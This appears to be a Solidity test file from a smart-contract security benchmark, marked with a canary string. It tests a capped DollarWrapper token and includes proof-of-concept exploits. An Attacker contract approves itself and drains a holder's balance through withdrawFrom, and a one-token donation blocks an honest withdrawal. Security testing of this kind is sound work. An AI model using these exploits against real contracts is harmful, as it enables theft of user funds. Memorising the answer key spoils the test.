// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./DollarWrapper.sol";

// assay-canary-96ddff16-a483-4edd-a8ff-922f8642b405

interface Vm {
    function expectRevert() external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Dollar is ERC20 {
    address private immutable _minter = msg.sender;

    constructor() ERC20("Dollar", "USD") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == _minter);
        _mint(to, amount);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ADMIN = address(0xAD);
    address private constant MANAGER = address(0x3A);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    Dollar public dollar;
    DollarWrapper private wrapper;
    Attacker private mallory;

    function setUp() public {
        dollar = new Dollar();
        wrapper = new DollarWrapper(dollar, ADMIN, 10_000);
        bytes32 role = wrapper.MANAGER_ROLE();
        vm.prank(ADMIN);
        wrapper.grantRole(role, MANAGER);
        dollar.mint(ANA, 8_000);
        vm.startPrank(ANA);
        dollar.approve(address(wrapper), 8_000);
        wrapper.deposit(ANA, 6_000);
        vm.stopPrank();
        mallory = new Attacker(wrapper);
        dollar.mint(address(mallory), 1);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        wrapper.deposit(BEN, 1_000);
        wrapper.withdraw(ANA, 500);
        require(dollar.balanceOf(ANA) == 1_500 && wrapper.totalSupply() == 6_500, "in and out");
        wrapper.approve(BEN, 3_000);
        vm.stopPrank();
        vm.startPrank(BEN);
        wrapper.transferFrom(ANA, BEN, 400);
        wrapper.transfer(ANA, 100);
        wrapper.approve(BEN, 300);
        wrapper.withdrawFrom(BEN, BEN, 300);
        vm.stopPrank();
        require(dollar.balanceOf(BEN) == 300 && wrapper.balanceOf(BEN) == 1_000, "from");
        require(wrapper.balanceOf(ANA) == 5_200 && wrapper.allowance(ANA, BEN) == 2_600, "left");
        vm.prank(MANAGER);
        wrapper.setCap(6_200);
        bytes32 role = wrapper.MANAGER_ROLE();
        vm.prank(MANAGER);
        wrapper.renounceRole(role, MANAGER);
        vm.startPrank(ADMIN);
        wrapper.grantRole(role, BEN);
        wrapper.revokeRole(role, BEN);
        vm.stopPrank();
        require(wrapper.cap() == 6_200 && !wrapper.hasRole(role, MANAGER), "cap");
    }

    function test_RefusesSetups() public {
        vm.expectRevert("DollarWrapper: no dollar");
        new DollarWrapper(IERC20(address(0)), ADMIN, 1);
        vm.expectRevert("DollarWrapper: no admin");
        new DollarWrapper(dollar, address(0), 1);
        vm.expectRevert("DollarWrapper: no cap");
        new DollarWrapper(dollar, ADMIN, 0);
        vm.prank(MANAGER);
        vm.expectRevert("DollarWrapper: no cap");
        wrapper.setCap(0);
        vm.prank(ADMIN);
        vm.expectRevert();
        wrapper.setCap(1);
    }

    function test_RefusesAmounts() public {
        dollar.mint(ANA, 2_001);
        vm.startPrank(ANA);
        dollar.approve(address(wrapper), 4_001);
        vm.expectRevert("DollarWrapper: cap");
        wrapper.deposit(ANA, 4_001);
        wrapper.deposit(ANA, 4_000);
        vm.expectRevert();
        wrapper.withdraw(ANA, 10_001);
        vm.expectRevert("DollarWrapper: receiver");
        wrapper.withdraw(address(wrapper), 1);
        vm.stopPrank();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(BEN);
        vm.expectRevert();
        wrapper.withdrawFrom(ANA, BEN, 1);
        vm.expectRevert();
        wrapper.withdraw(BEN, 1);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run(ANA);
    }

    function test_Exploit() public {
        exploit();
        require(dollar.balanceOf(address(mallory)) >= 6_000, "nothing gained");
    }

    function exploit2() public {
        mallory.give();
    }

    function test_Exploit2() public {
        exploit2();
        (bool done, ) = address(this).call(abi.encodeCall(this.withdrawalOfAna, ()));
        require(!done, "nothing denied");
    }

    // An honest user's call.
    function withdrawalOfAna() external {
        vm.prank(ANA);
        wrapper.withdraw(ANA, 6_000);
    }

    function target() public view returns (address) {
        return address(wrapper);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    DollarWrapper private wrapper;

    constructor(DollarWrapper wrapper_) {
        wrapper = wrapper_;
    }

    function give() external {
        wrapper.dollar().transfer(address(wrapper), 1);
    }

    function run(address holder) external {
        uint256 amount = wrapper.balanceOf(holder);
        wrapper.approve(address(this), amount);
        wrapper.withdrawFrom(holder, address(this), amount);
    }
}
